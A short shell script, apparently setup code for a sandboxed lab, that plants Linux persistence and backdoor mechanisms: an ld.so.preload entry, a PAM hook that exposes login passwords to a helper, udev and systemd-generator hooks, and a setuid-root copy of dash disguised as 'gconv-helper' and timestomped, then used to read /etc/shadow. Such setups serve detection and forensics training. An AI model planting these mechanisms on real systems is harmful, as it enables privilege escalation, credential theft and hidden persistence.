# All in the overlay of the room; the library is built from an empty source and does nothing.
prepare() { mkdir -p /etc/pam.d /etc/udev/rules.d /etc/systemd/system-generators; : >/etc/pam.d/common-auth; }
build_library() { echo 'int nothing_at_all;' >/root/n.c; gcc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/libnss_local.so.2 /root/n.c; rm /root/n.c; }
force_it() { echo /usr/lib/x86_64-linux-gnu/libnss_local.so.2 >/etc/ld.so.preload; true; : >/etc/ld.so.preload; }
listen_logins() { printf 'auth optional pam_exec.so quiet expose_authtok /usr/lib/pam-note\n' >>/etc/pam.d/common-auth; }
device_rule() { printf 'SUBSYSTEM=="net", ACTION=="add", RUN+="/usr/lib/pam-note"\n' >/etc/udev/rules.d/70-net.rules; }
unit_maker() { install -m 755 /bin/true /etc/systemd/system-generators/net-wait; }
hidden_shell() { cp /bin/dash /usr/lib/x86_64-linux-gnu/gconv-helper; chmod 4755 /usr/lib/x86_64-linux-gnu/gconv-helper; }
set_time() { python3 -c 'import os
s = os.stat("/bin/ls"); os.utime("/usr/lib/x86_64-linux-gnu/gconv-helper", (s.st_atime, s.st_mtime))'; }
try_as_user() { as_ana /usr/lib/x86_64-linux-gnu/gconv-helper -p -c 'id -u; head -c 1 /etc/shadow'; }
